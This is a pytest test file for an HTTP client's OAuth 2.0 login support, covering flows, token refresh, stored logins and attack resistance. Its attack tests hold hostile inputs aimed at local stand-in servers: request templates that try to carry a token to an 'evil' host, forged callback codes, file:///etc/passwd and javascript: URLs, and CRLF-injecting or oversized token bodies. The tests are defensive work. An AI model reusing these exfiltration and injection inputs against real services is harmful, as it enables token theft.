"""Logins at a real OAuth 2.0 provider: every flow, stored tokens, their owners, and attacks."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import subprocess
import sys
import threading
from typing import TYPE_CHECKING, Any

import pytest
import requests
from evaluated import Evaluated
from login_browser import Browser, callback
from oauth_provider import PASSWORD, SECRET, USER, Provider
from servers import RawServer, response
from waiting import wait_until

from orgrest.http.auth import flows
from orgrest.http.transport.client import Client
from orgrest.http.transport.limits import Budget
from orgrest.http.values import Inputs
from orgrest.run.login_store import LoginStore
from orgrest.run.logins import Logins, Person

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from orgrest.run.outcomes import Outcome


@pytest.fixture(autouse=True)
def surroundings(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AUTHLIB_INSECURE_TRANSPORT", "1")


@pytest.fixture
def provider() -> Iterator[Provider]:
    with Provider() as found:
        yield found


@pytest.fixture
def evil() -> Iterator[RawServer]:
    with RawServer(response(b"{}")) as found:
        yield found


class Someone:
    """A person with a browser. `says` answers the prompts, which are recorded in `questions`."""

    def __init__(self, answer: str | None = "allow", *, says: bool = True) -> None:
        self.browser = Browser(answer)
        self.says = says
        self.questions: list[str] = []
        self.told: list[str] = []
        self.person = Person(self._ask, self.told.append, self.browser.open)

    def _ask(self, question: str) -> bool:
        self.questions.append(question)
        return self.says


SETTINGS = """@p_authorizationEndpoint = {url}/authorize
@p_tokenEndpoint = {url}/token
@p_deviceCodeEndpoint = {url}/device
@p_clientId = public
@p_scope = read
"""
CODE = "### api\nGET {url}/api\nAuthorization: oauth2 authorization_code p\n"
DEVICE = CODE.replace("authorization_code", "device_code")


class Documents:
    """Runs documents in one folder, with the logins stored in another."""

    def __init__(self, folder: Path, provider: Provider) -> None:
        self.folder = folder / "docs"
        self.kept = folder / "logins"
        self.provider = provider
        self.logins = self.new_logins()
        self.folder.mkdir()

    def new_logins(self) -> Logins:
        """Return the logins as another run would load them."""
        self.logins = Logins(lambda: LoginStore(self.kept, None))
        return self.logins

    def run(
        self,
        text: str = CODE,
        someone: Someone | None = None,
        *,
        name: str = "a.http",
        settings: str = SETTINGS,
        environments: tuple[str, ...] = (),
        client: Client | None = None,
        **options: Any,
    ) -> list[Outcome]:
        text = (settings + "\n" + text).replace("{url}", self.provider.url)
        (self.folder / name).write_text(text)
        person = None if someone is None else someone.person
        inputs = Inputs(directory=self.folder, environments=environments)
        services = {"person": person, "logins": self.logins}
        done = Evaluated(text, inputs, file=name, client=client, services=services, **options)
        return done.outcomes


@pytest.fixture
def documents(tmp_path: Path, provider: Provider) -> Documents:
    return Documents(tmp_path, provider)


def done(outcomes: list[Outcome]) -> None:
    assert [outcome.state for outcome in outcomes] == ["done"] * len(outcomes), outcomes[0].reason
    assert [outcome.exchanges[-1].response.status for outcome in outcomes] == [200] * len(outcomes)


def reason(outcomes: list[Outcome]) -> str:
    [outcome] = outcomes
    assert outcome.state == "failed", outcome
    return str(outcome.reason)


# ---------------------------------------------------------------------------------------- the flows


def test_a_person_signs_in_in_the_browser_and_the_request_has_their_token(
    documents: Documents, provider: Provider
) -> None:
    jo = Someone()
    outcomes = documents.run(someone=jo)
    done(outcomes)
    [page] = jo.browser.join()
    assert page.status_code == 200
    assert "You can close this page" in page.text
    assert page.headers["Cache-Control"] == "no-store"
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]
    assert provider.asked == ["authorization_code"]
    [given] = provider.authorizations
    assert given["code_challenge_method"] == "S256"
    assert given["redirect_uri"].startswith("http://127.0.0.1:")
    [question] = jo.questions
    assert f"sign in at {provider.url}" in question
    assert f"send the token to {provider.url}" in question
    assert "'public'" in question
    assert any(jo.browser.opened[0] in text for text in jo.told)
    assert json.loads(outcomes[0].exchanges[0].response.body)["user"] == USER


def test_a_real_browser_comes_back_and_shows_a_page_without_a_complaint(
    documents: Documents, provider: Provider
) -> None:
    from browser import Browser as Chromium

    with Chromium() as chromium:
        pages: list[str] = []
        person = Person(lambda _: True, lambda _: None, lambda url: not pages.append(url))
        came: list[Outcome] = []
        jo = Someone()
        jo.person = person
        run = threading.Thread(target=lambda: came.extend(documents.run(someone=jo)), daemon=True)
        run.start()
        wait_until(lambda: pages)
        chromium.call("Page.navigate", url=pages[0])
        until(chromium, "document.title == 'Sign in' && document.readyState == 'complete'")
        chromium.messages.clear()
        chromium.ask("document.querySelector('[value=allow]').click()")
        until(chromium, "document.title == 'Back to orgrest' && document.readyState == 'complete'")
        assert "close this page" in chromium.ask("document.body.innerText")
        wrong = [complaint for complaint in chromium.complaints() if "favicon.ico" not in complaint]
        assert wrong == []
        run.join(60)
    done(came)


def until(chromium: Any, condition: str) -> None:
    """Wait until a condition holds for the current page."""

    def holds() -> bool:
        with contextlib.suppress(AssertionError):  # between two pages
            return bool(chromium.ask(condition))
        return False

    wait_until(holds)


def test_nothing_that_is_shown_or_kept_in_records_has_a_code_a_verifier_or_a_token(
    documents: Documents, provider: Provider
) -> None:
    from orgrest.run.record import encoded, of_outcome

    [outcome] = documents.run(someone=Someone())
    [exchange] = outcome.exchanges
    [asked] = exchange.earlier
    place = {"order": [0, 1], "document": "a.http", "file": "a.http"}
    record = encoded(of_outcome(outcome, place, fail=False)).decode()
    token = provider.tokens[0]
    for secret in (token["access_token"], token["refresh_token"]):
        assert secret in outcome.secrets
        assert secret not in record
    for name in (b"code=", b"code_verifier="):
        value = asked.request.body.partition(name)[2].partition(b"&")[0].decode()
        assert len(value) > 20
        assert value not in record
    assert "grant_type=authorization_code" in record


def test_a_configured_port_is_the_one_that_the_browser_comes_back_to(
    documents: Documents, provider: Provider
) -> None:
    for _ in range(5):  # another program may take the port first
        with socket.create_server(("127.0.0.1", 0)) as free:
            redirect = f"http://localhost:{free.getsockname()[1]}/callback"
        outcomes = documents.run(
            someone=Someone(), settings=f"{SETTINGS}@p_redirectUri={redirect}\n"
        )
        if outcomes[0].state == "done":
            break
    done(outcomes)
    assert provider.authorizations[0]["redirect_uri"] == redirect


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_port_that_is_taken_is_an_error_before_the_browser_opens(
    host: str, documents: Documents
) -> None:
    jo = Someone()
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        settings = f"{SETTINGS}@p_redirectUri = http://{host}:{port}/callback\n"
        assert f"could not listen on port {port}" in reason(
            documents.run(someone=jo, settings=settings)
        )
    assert jo.browser.opened == []


def test_jetbrains_configuration_of_a_login_is_read(
    documents: Documents, provider: Provider
) -> None:
    auth = {
        "Type": "OAuth2",
        "Grant Type": "Authorization Code",
        "Auth URL": "{{host}}/authorize",
        "Token URL": "{{host}}/token",
        "Redirect URL": "http://localhost/callback",
        "Client ID": "public",
        "Context": "read",
        "PKCE": True,
        "Custom Request Parameters": {
            "audience": "all",
            "prompt": {"Value": "login", "Use": "In Auth Request"},
            "quiet": {"Value": "1", "Use": "In Token Request"},
        },
    }
    environment = {"dev": {"host": provider.url, "Security": {"Auth": {"api": auth}}}}
    (documents.folder / "http-client.env.json").write_text(json.dumps(environment))
    text = '### api\nGET {{host}}/api\nAuthorization: Bearer {{$auth.token("api")}}\n'
    done(documents.run(text, Someone(), settings="", environments=("dev",)))
    [given] = provider.authorizations
    assert (given["audience"], given["prompt"]) == ("all", "login")
    assert "quiet" not in given
    assert given["redirect_uri"].startswith("http://localhost:")


def test_a_device_shows_its_code_and_waits_as_the_server_says(
    documents: Documents, provider: Provider
) -> None:
    waited: list[float] = []

    class Impatient(Budget):
        def wait(self, seconds: float) -> None:
            waited.append(seconds)
            if len(waited) == 3:
                sign_in_device()

    jo = Someone(None)

    def sign_in_device() -> None:
        [url] = jo.browser.opened
        assert url.startswith(f"{provider.url}/activate?user_code=")
        code = url.partition("=")[2]
        assert f"check the code {code}" in jo.told[0]
        requests.post(f"{provider.url}/activate", {"user_code": code, "answer": "allow"}, timeout=9)

    provider.slow = 1
    done(documents.run(DEVICE, jo, client=Client(budget=Impatient())))
    assert waited == [0.2, 5.2, 5.2]
    assert len(jo.questions) == 1


@pytest.mark.parametrize("text", [CODE, DEVICE])
def test_a_person_who_denies_is_told_so_and_asked_no_more_in_this_run(
    text: str, documents: Documents, provider: Provider
) -> None:
    jo = Someone("deny")
    outcomes = documents.run(text + "\n" + text, jo)
    assert [outcome.state for outcome in outcomes] == ["failed", "failed"]
    assert all("access_denied" in str(outcome.reason) for outcome in outcomes)
    assert len(jo.browser.opened) == len(jo.questions) == 1
    assert provider.bearers == []
    if text is CODE:
        [page] = jo.browser.join()
        assert "refused" in page.text


def test_flows_without_a_person_work_at_a_real_provider(
    documents: Documents, provider: Provider
) -> None:
    settings = f"{SETTINGS}@r_clientId = robot\n@r_clientSecret = {SECRET}\n".replace("@p", "@r", 5)
    settings = settings.replace("@r_clientId = public\n", "")
    settings += f"@r_username = {USER}\n@r_password = {PASSWORD}\n"
    for header in (True, False):
        more = f"@r_useAuthorizationHeader = {str(header).lower()}\n"
        text = CODE.replace("authorization_code p", "client_credentials r")
        done(documents.run(text, settings=settings + more))
        done(
            documents.run(text.replace("client_credentials", "password"), settings=settings + more)
        )
    assert provider.asked == ["client_credentials", "password"] * 2


def test_a_client_with_a_secret_shows_it_with_a_code_and_a_device(
    documents: Documents, provider: Provider
) -> None:
    settings = SETTINGS.replace("public", "robot") + f"@p_clientSecret = {SECRET}\n"
    done(documents.run(CODE, Someone(), settings=settings))
    done(documents.run(DEVICE, Someone(), settings=settings))


# ------------------------------------------------------------------------- refreshing what is over


def test_a_token_that_is_over_is_refreshed_without_a_person_and_rotated(
    documents: Documents, provider: Provider
) -> None:
    provider.lifetime = 1  # less than the leeway
    done(documents.run(someone=Someone()))
    for _ in range(3):
        documents.new_logins()
        done(documents.run())
    assert provider.asked == ["authorization_code", *["refresh_token"] * 3]


def test_a_refused_token_is_refreshed_and_the_request_sent_again(
    documents: Documents, provider: Provider
) -> None:
    done(documents.run(someone=Someone()))
    provider.revoke()
    outcomes = documents.run(f"{CODE}\n{CODE.replace('GET', 'POST')}")
    done(outcomes)
    assert provider.asked == ["authorization_code", "refresh_token"]
    assert len(provider.bearers) == 4
    assert len(set(provider.bearers)) == 2
    reasons = [one.reason for one in outcomes[0].exchanges[0].earlier]
    assert sorted(reasons) == ["attempt", "token"]
    for token in provider.tokens:
        assert token["access_token"] in outcomes[0].secrets
    documents.new_logins()
    done(documents.run())
    assert provider.bearers[-1] == provider.tokens[-1]["access_token"]


def test_a_refused_token_of_a_password_is_refreshed_for_all_later_requests(
    documents: Documents, provider: Provider
) -> None:
    settings = SETTINGS.replace("public", "robot") + f"@p_clientSecret = {SECRET}\n"
    settings += f"@p_username = {USER}\n@p_password = {PASSWORD}\n"
    text = CODE.replace("authorization_code", "password")
    provider.refuses = 1
    outcomes = documents.run(f"{text}\n{text}", settings=settings)
    assert [outcome.exchanges[0].response.status for outcome in outcomes] == [200, 200]
    assert provider.asked == ["password", "refresh_token"]
    provider.refuses = 1
    text = text.replace("password", "client_credentials")
    outcomes = documents.run(f"{text}\n{text}", settings=settings)
    assert [outcome.exchanges[0].response.status for outcome in outcomes] == [200, 200]
    assert provider.asked[2:] == ["client_credentials"] * 2  # it has no refresh token
    provider.refuses = 1
    [outcome] = documents.run(f"{text}\n?? status == 401", settings=settings)
    assert outcome.exchanges[0].response.status == 401  # as expected: no new token is requested
    assert provider.asked[4:] == ["client_credentials"]
    provider.refuses = 9
    outcomes = documents.run(text * 3, settings=settings)
    assert [outcome.exchanges[0].response.status for outcome in outcomes] == [401] * 3
    assert provider.asked[5:] == ["client_credentials"] * 2  # the second did not help


def test_a_login_that_is_over_is_forgotten_and_the_next_run_signs_in(
    documents: Documents, provider: Provider
) -> None:
    done(documents.run(someone=Someone()))
    provider.forget()
    [outcome] = documents.run()
    assert outcome.exchanges[0].response.status == 401
    documents.new_logins()
    assert "requires a person to sign in" in reason(documents.run())
    jo = Someone()
    done(documents.run(someone=jo))
    assert jo.questions == []  # as they allowed before
    assert len(jo.browser.opened) == 1


def test_a_token_that_the_document_gave_is_used_where_there_is_no_person(
    documents: Documents, provider: Provider
) -> None:
    done(documents.run(someone=Someone()))
    token = provider.tokens[0]["refresh_token"]
    text = f"{SETTINGS}@p_refreshToken = {token}\n"
    documents.logins = Logins(lambda: None)
    outcomes = documents.run(settings=text)
    done(outcomes)
    assert provider.asked == ["authorization_code", "refresh_token"]
    assert token in outcomes[0].secrets


def test_two_runs_at_once_do_not_refresh_the_same_token_twice(
    documents: Documents, provider: Provider
) -> None:
    provider.lifetime = 1
    done(documents.run(someone=Someone()))
    provider.lifetime = 3600
    first, second = documents.new_logins(), documents.new_logins()
    documents.logins = second
    key = CODE.replace("oauth2", "oauth2 ")
    provider.lifetime = 1
    done(documents.run(key))
    documents.logins = first
    provider.lifetime = 3600
    done(documents.run())
    documents.logins = second
    done(documents.run(key))
    assert provider.asked == ["authorization_code", "refresh_token", "refresh_token"]


def test_many_processes_at_once_refresh_a_login_once(
    documents: Documents, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ORGREST_LOGINS", str(documents.kept))
    provider.lifetime = 1
    done(documents.run(someone=Someone()))
    provider.lifetime = 3600
    command = [sys.executable, "-m", "orgrest", "a.http"]
    runs = [
        subprocess.Popen(command, cwd=documents.folder, stdin=subprocess.DEVNULL) for _ in range(6)
    ]
    assert [run.wait(timeout=100) for run in runs] == [0] * len(runs)
    assert provider.asked == ["authorization_code", "refresh_token"]


# -------------------------------------------------------------------------- what is kept, and whose


def test_a_kept_login_serves_the_next_run_without_a_person(
    documents: Documents, provider: Provider
) -> None:
    done(documents.run(someone=Someone()))
    documents.new_logins()
    done(documents.run())
    assert provider.asked == ["authorization_code"]
    [file] = documents.kept.iterdir()
    if os.name == "posix":
        assert file.stat().st_mode & 0o077 == 0
        assert documents.kept.stat().st_mode & 0o077 == 0


def test_another_document_that_names_the_same_login_does_not_get_its_token(
    documents: Documents, provider: Provider
) -> None:
    done(documents.run(someone=Someone()))
    documents.new_logins()
    message = reason(documents.run(name="hostile.http"))
    assert ", but have not allowed" in message
    assert "hostile.http" in message
    jo = Someone(says=False)
    assert "you declined" in reason(documents.run(name="hostile.http", someone=jo))
    [question] = jo.questions
    assert "hostile.http wants to send your token" in question
    assert len(provider.bearers) == 1
    documents.new_logins()
    done(documents.run(name="hostile.http", someone=Someone()))
    documents.new_logins()
    done(documents.run(name="hostile.http"))
    assert provider.asked == ["authorization_code"]  # one login for both


@pytest.mark.parametrize("someone", [None, Someone(says=False)])
def test_a_token_goes_to_no_host_that_the_person_did_not_allow(
    someone: Someone | None, documents: Documents, evil: RawServer
) -> None:
    done(documents.run(someone=Someone()))
    text = CODE.replace("GET {url}", f"GET {evil.url}")
    message = reason(documents.run(text, someone))
    assert evil.url in message
    assert "not allowed" in message or "you declined" in message
    assert evil.requests == []


TOKEN = '{{$auth.token("api")}}'
WAYS = {
    "to another host": (
        "# @name one\nGET {good}/\nAuthorization: Bearer {token}\n\n### two\nPOST {evil}/\n\n"
        "{{one.request.headers.Authorization}}\n"
    ),
    "by a variable": "@t = {token}\n### one\nGET {evil}/\nX: {{t}}\n",
    "after a redirect": "### one\nGET {good}/r\nX-Token: {token}\n",
    "in the URL": "### one\nGET {evil}/{token}\n",
    "as it was echoed": (
        "# @name one\nPOST {good}/echo\n\n{token}\n\n### two\nPOST {evil}/\n\n"
        "{{one.response.body.*}}\n"
    ),
}


@pytest.mark.parametrize("way", WAYS)
def test_an_allowed_token_cannot_be_taken_elsewhere(
    way: str, documents: Documents, provider: Provider, evil: RawServer
) -> None:
    def good(connection: socket.socket, request: bytes) -> None:
        if request.startswith(b"GET /r"):
            connection.sendall(response(b"", f"Location: {evil.url}/", status="302 Found"))
        else:
            connection.sendall(response(request.partition(b"\r\n\r\n")[2]))

    auth = {
        "Type": "OAuth2",
        "Grant Type": "Authorization Code",
        "Auth URL": f"{provider.url}/authorize",
        "Token URL": f"{provider.url}/token",
        "Client ID": "public",
    }
    environment = {"dev": {"Security": {"Auth": {"api": auth}}}}
    (documents.folder / "http-client.env.json").write_text(json.dumps(environment))

    class Careful(Someone):
        def _ask(self, question: str) -> bool:
            self.questions.append(question)
            return evil.url not in question

    # what the person allowed another document does not count
    other = f"GET {evil.url}/\nAuthorization: Bearer {TOKEN}\n"
    given = {"settings": "", "environments": ("dev",)}
    done(documents.run(other, Someone(), name="other.http", **given))
    evil.requests.clear()
    with RawServer(good) as server:
        text = WAYS[way].replace("{token}", TOKEN)
        text = text.replace("{evil}", evil.url).replace("{good}", server.url)
        outcomes = documents.run(text, Careful(), **given)
    secrets = [token["access_token"].encode() for token in provider.tokens]
    assert secrets
    assert not any(secret in request for secret in secrets for request in evil.requests)
    assert any(outcome.state == "failed" for outcome in outcomes) or way == "after a redirect"


@pytest.mark.parametrize(
    "damage",
    [
        b"",
        b"{",
        b"[" * 100_000,
        b"[]",
        b'{"login": 1}',
        b'{"login": 2, "token": {"access": "x"}}',
    ],
)
def test_a_damaged_file_counts_as_no_login(
    damage: bytes, documents: Documents, provider: Provider
) -> None:
    done(documents.run(someone=Someone()))
    [file] = documents.kept.iterdir()
    file.write_bytes(damage)
    documents.new_logins()
    assert "requires a person to sign in" in reason(documents.run())
    jo = Someone()
    done(documents.run(someone=jo))
    assert len(jo.questions) == 1


def test_a_file_whose_parts_are_of_other_types_counts_as_no_login(documents: Documents) -> None:
    done(documents.run(someone=Someone()))
    [file] = documents.kept.iterdir()
    whole = json.loads(file.read_text())
    for damage in (
        {"allowed": 1},
        {"allowed": [[1]]},
        {"token": {"access": 1}},
        {"token": {"access": "a", "expires": "x"}},
        {"client": "other"},
    ):
        file.write_text(json.dumps({**whole, **damage}))
        documents.new_logins()
        assert "requires a person to sign in" in reason(documents.run())


def test_where_nothing_can_be_kept_the_run_continues_and_says_so_once(
    documents: Documents, provider: Provider
) -> None:
    documents.kept.write_text("a file, no folder")
    jo = Someone()
    done(documents.run(f"{CODE}\n{CODE}", jo))
    assert sum("could not save the login" in text for text in jo.told) == 1
    assert provider.asked == ["authorization_code"]


# ------------------------------------------------------------------------------------------ attacks


def test_answers_of_others_change_nothing_and_a_second_code_is_refused(
    documents: Documents, provider: Provider
) -> None:
    jo = Someone()
    got: list[requests.Response] = []

    def attack(url: str) -> None:
        uri, state = callback(url)
        port = uri.rpartition(":")[2].partition("/")[0]
        bad = [
            f"{uri}?code=evil",
            f"{uri}?code=evil&state=guess",
            f"{uri}?code=evil&state={state}&state=guess",
            f"{uri}?error=access_denied&state=",
            f"{uri}x?code=evil&state={state}",
            f"{uri}?{'a&' * 100}code=evil&state={state}",
        ]
        got.extend(requests.get(one, timeout=9) for one in bad)
        host = {"Host": f"evil.example:{port}"}
        got.append(requests.get(f"{uri}?code=evil&state={state}", headers=host, timeout=9))
        got.append(requests.post(uri, {"code": "evil", "state": state}, timeout=9))
        with socket.create_connection(("127.0.0.1", int(port))) as quiet:
            quiet.sendall(b"\x16\x03\x01 nonsense\r\n\r\n")

    jo.browser.before = attack
    done(documents.run(someone=jo))
    assert [one.status_code for one in got] == [400, 400, 400, 400, 404, 400, 404, 501]
    assert not any("evil" in one.text for one in got)
    assert provider.asked == ["authorization_code"]


def test_an_answer_without_a_code_is_an_error(documents: Documents, provider: Provider) -> None:
    jo = Someone(None)

    def answer(url: str) -> None:
        uri, state = callback(url)
        requests.get(f"{uri}?state={state}", timeout=9)

    jo.browser.before = answer
    assert "redirected back without an authorization code" in reason(documents.run(someone=jo))
    assert provider.asked == []


def test_of_two_answers_the_first_counts(provider: Provider) -> None:
    from orgrest.http.transport.loopback import Loopback

    accepted = {"code": "one"}
    with Loopback("", flows.parameters_in, lambda given: "code" in given) as loopback:
        first = requests.get(f"{loopback.uri}?code=one", timeout=9)
        second = requests.get(f"{loopback.uri}?code=two", timeout=9)
        assert loopback.wait(5, lambda _: None) == accepted
        assert loopback.wait(0.3, lambda _: None) is None
    assert (first.status_code, second.status_code) == (200, 410)


@pytest.mark.parametrize(
    ("issuer", "said", "works"),
    [
        (None, "{url}", True),
        (None, "{url}/realm", True),
        (None, "https://honest.example", False),
        (None, "{url}.evil.example", False),
        (None, "{url}@evil.example", False),
        (None, "nonsense", False),
        ("{url}/realm", "{url}/realm", True),
        ("{url}/realm", "{url}/other", False),
        ("{url}/realm", None, False),
        ("https://other.example", "https://other.example", True),
    ],
)
def test_an_answer_of_another_issuer_is_refused_before_its_code_is_used(
    issuer: str | None, said: str | None, works: bool, documents: Documents, provider: Provider
) -> None:
    provider.issuer = None if said is None else said.replace("{url}", provider.url)
    settings = SETTINGS if issuer is None else f"{SETTINGS}@p_issuer = {issuer}\n"
    outcomes = documents.run(someone=Someone(), settings=settings)
    if works:
        done(outcomes)
    else:
        assert "the code was not used" in reason(outcomes)
        assert provider.asked == []


@pytest.mark.parametrize(
    ("setting", "why"),
    [
        ("redirectUri = https://evil.example/callback", "loopback address"),
        ("redirectUri = http://evil.example/callback", "loopback address"),
        ("redirectUri = http://127.0.0.1@evil.example/callback", "loopback address"),
        ("redirectUri = http://localhost.evil.example/callback", "loopback address"),
        ("redirectUri = http://127.0.0.1/callback?next=x", "loopback address"),
        ("redirectUri = http://127.0.0.1:99999/callback", "loopback address"),
        ("authorizationEndpoint = file:///etc/passwd", "be a valid https URL"),
        ("authorizationEndpoint = http://login.example/a", "be a valid https URL"),
        ("authorizationEndpoint = https://me@login.example/a", "be a valid https URL"),
        ("authorizationEndpoint = https://login.example/a#b", "be a valid https URL"),
        ("authorizationEndpoint = https://b\u00fccher.example/a", "be a valid https URL"),
        ("authorizationEndpoint = https:///a", "be a valid https URL"),
        ("authorizationEndpoint = https://[a/", "be a valid https URL"),
        ("tokenEndpoint = http://login.example/a", "be a valid https URL"),
        ("clientId = {{no}}", "no is not defined"),
    ],
)
def test_a_login_elsewhere_than_by_tls_and_loopback_is_not_begun(
    setting: str, why: str, documents: Documents, provider: Provider
) -> None:
    name, _, value = setting.partition(" = ")
    settings = f"{SETTINGS}@q_{name} = {value}\n"
    for other in ("authorizationEndpoint", "tokenEndpoint", "clientId"):
        if other != name:
            settings += f"@q_{other} = {{{{p_{other}}}}}\n"
    jo = Someone()
    message = reason(documents.run(CODE.replace("code p", "code q"), jo, settings=settings))
    assert why in message
    assert jo.questions == jo.browser.opened == []


HOSTILE = {
    "huge": (b'{"access_token": "' + b"a" * 3_000_000 + b'"}', "larger than 1 MiB"),
    "deep": (b"[" * 500_000, "returned no token"),
    "no JSON": (b"<html>", "returned no token"),
    "a list": (b"[1]", "returned no token"),
    "a line break": (b'{"access_token": "a\\r\\nX: y"}', "returned no token"),
    "a proof": (b'{"access_token": "a", "token_type": "DPoP"}', "requires proof of possession"),
    "a large number": (
        b'{"access_token": 1, "expires_in": ' + b"9" * 9000 + b"}",
        "returned no token",
    ),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_what_a_hostile_token_endpoint_answers_ends_as_an_error(
    what: str, documents: Documents, provider: Provider
) -> None:
    body, why = HOSTILE[what]
    with RawServer(response(body)) as hostile:
        settings = SETTINGS.replace("{url}/token", f"{hostile.url}/token")
        jo = Someone()
        message = reason(documents.run(someone=jo, settings=settings))
    assert why in message
    assert len(message) < 1000
    assert f"get the token from {hostile.url} and send it to" in jo.questions[0]
    assert provider.bearers == []


def test_a_token_endpoint_that_is_away_opens_the_browser_once_in_a_run(
    documents: Documents,
) -> None:
    with RawServer(b"") as gone:
        settings = SETTINGS.replace("{url}/token", f"{gone.url}/token")
    jo = Someone()
    outcomes = documents.run(f"{CODE}\n{CODE}", jo, settings=settings)
    assert [outcome.state for outcome in outcomes] == ["failed", "failed"]
    reason = f"could not get a token from {gone.url}: connection to {gone.host} refused"
    assert reason in str(outcomes[1].reason)
    assert len(jo.browser.opened) == 1


def test_a_token_endpoint_that_redirects_gets_the_code_nowhere_else(
    documents: Documents, evil: RawServer
) -> None:
    moved = response(b"", f"Location: {evil.url}/", status="307 Temporary Redirect")
    with RawServer(moved) as hostile:
        settings = SETTINGS.replace("{url}/token", f"{hostile.url}/token")
        assert "status 307" in reason(documents.run(someone=Someone(), settings=settings))
    assert evil.requests == []


@pytest.mark.parametrize(
    "page",
    ["file:///etc/passwd", "javascript:alert(1)", "https://a.example/\x1b[31m", "--help", "x" * 9],
)
def test_a_device_cannot_make_the_browser_open_just_anything(
    page: str, documents: Documents
) -> None:
    answer = {"device_code": "D", "user_code": "U", "verification_uri": page}
    answer |= {"expires_in": 0, "interval": 0}
    with RawServer(response(json.dumps(answer).encode())) as hostile:
        settings = SETTINGS.replace("{url}/device", f"{hostile.url}/device")
        jo = Someone()
        assert "the device code was not confirmed in time" in reason(
            documents.run(DEVICE, jo, settings=settings)
        )
    assert jo.browser.opened == []
    assert "\x1b" not in "".join(jo.told)


def test_a_server_that_is_away_while_a_device_waits_is_asked_again(
    documents: Documents, provider: Provider
) -> None:
    waited: list[float] = []
    jo = Someone()

    class Quick(Budget):
        def wait(self, seconds: float) -> None:
            waited.append(seconds)
            if len(waited) == 2:
                jo.browser.join()

    def flaky(connection: socket.socket, request: bytes) -> None:
        if len(waited) < 2:
            connection.close()
            return
        body = request.partition(b"\r\n\r\n")[2].decode()
        headers = {"Content-Type": "application/x-www-form-urlencoded"}
        got = requests.post(f"{provider.url}/token", body, headers=headers, timeout=9)
        connection.sendall(response(got.content))

    with RawServer(flaky) as between:
        settings = SETTINGS.replace("{url}/token", f"{between.url}/token")
        done(documents.run(DEVICE, jo, settings=settings, client=Client(budget=Quick())))
    assert waited[:2] == [0.2, 0.4]


def test_a_login_that_nobody_answers_ends_and_listens_no_longer(
    documents: Documents, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(flows, "LONGEST_LOGIN", 0.3)
    jo = Someone(None)
    message = reason(documents.run(someone=jo))
    assert "no response to this login" in message
    uri, _ = callback(jo.browser.opened[0])
    with pytest.raises(requests.ConnectionError):
        requests.get(uri, timeout=9)


def test_a_run_that_is_broken_off_waits_for_no_login(documents: Documents) -> None:
    budget = Budget()
    jo = Someone(None)
    jo.browser.before = lambda _: budget.stop("enough")
    message = reason(documents.run(someone=jo, client=Client(budget=budget)))
    assert "interrupted" in message
    uri, _ = callback(jo.browser.opened[0])
    with pytest.raises(requests.ConnectionError):
        requests.get(uri, timeout=9)


def test_one_login_serves_requests_in_several_threads(
    documents: Documents, provider: Provider
) -> None:
    jo = Someone()
    names = [f"{number}.http" for number in range(4)]
    threads = [
        threading.Thread(target=lambda name=name: done(documents.run(name=name, someone=jo)))
        for name in names
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    assert provider.asked == ["authorization_code"]
    assert len(provider.bearers) == 4


def test_a_dry_run_signs_nobody_in(documents: Documents, provider: Provider) -> None:
    jo = Someone()
    [outcome] = documents.run(someone=jo, dry_run=True)
    value = outcome.exchanges[0].request.header("Authorization")
    assert value == "Bearer <oauth2 authorization_code p>"
    assert jo.questions == jo.browser.opened == []


def test_person_sees_no_control_characters_of_a_document(documents: Documents) -> None:
    settings = SETTINGS.replace("public", "pub\x1b[31mlic\u202e")
    jo = Someone(says=False)
    documents.run(someone=jo, settings=settings)
    [question] = jo.questions
    assert question.isprintable()
